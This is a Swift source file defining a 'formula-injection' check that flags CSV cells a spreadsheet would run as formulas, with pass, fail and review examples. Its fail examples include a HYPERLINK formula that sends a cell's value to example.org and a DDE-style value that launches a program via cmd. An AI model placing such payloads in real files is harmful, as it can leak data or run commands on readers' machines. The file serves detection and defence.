// formula-injection: cells that a spreadsheet runs when the file is opened.

/// Finds cells that a spreadsheet takes for formulas.
public struct FormulaInjection: ContentRule {
  public init() {}

  public var description: RuleDescription {
    RuleDescription(
      name: "formula-injection",
      family: .content,
      statbarn: nil,
      summary: "A cell that a spreadsheet runs as a formula.",
      rationale: """
        A cell that begins with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet, also behind \
        a quote or spaces, and in full-width forms. It can fetch and send data, start programs, and show another \
        number than the checker saw. What calls, refers or calculates fails; a sign in front of something else \
        is for a person to judge. Negative numbers, numbers and telephone numbers with a plus, dashes that stand \
        for nothing, and points of a list are no formulas. Stata and R write texts as ="text" so that spreadsheets keep them: such \
        cells are noted.
        """,
      remedy: "Write the value in place of the formula, or a word in front of the sign.",
      parameters: [ContentVerdict.parameter.description],
      sources: [
        "OWASP, CSV Injection: cells that begin with =, +, -, @, tab or carriage return",
        "CWE-1236, Improper Neutralization of Formula Elements in a CSV File",
      ],
      examples: [
        RuleExample(
          .pass, "signs that are no formulas",
          "region,change,difference,telephone\nNorth,-12.5,+5,+44 20 7946 0123\nSouth,-,--,+44 20 7946 0124\n"
        ),
        RuleExample(
          .fail, "a link that sends a cell away",
          "region,patients\n\"=HYPERLINK(\"\"http://example.org/?\"\"&B2,\"\"North\"\")\",120\nSouth,145\n"),
        RuleExample(
          .fail, "a command behind a number", "region,patients\n\"-2+3+cmd|' /C calc'!A0\",120\nSouth,145\n"),
        RuleExample(.review, "a sign before a word", "region,patients\n@north,120\nSouth,145\n"),
        RuleExample(.info, "texts as Stata writes them", "region,patients\n=\"North\",120\n=\"South\",145\n"),
      ]
    )
  }

  public func conclusion(on kind: ContentKind) -> (worst: Verdict, message: Message)? {
    switch kind {
    case .formula: (.fail, "The text is a formula to a spreadsheet.")
    case .formulaSign: (.review, "The text begins with a sign by which a spreadsheet knows formulas.")
    case .formulaText: (.info, "The text is written as a formula that is one text in quotes.")
    default: nil
    }
  }
}
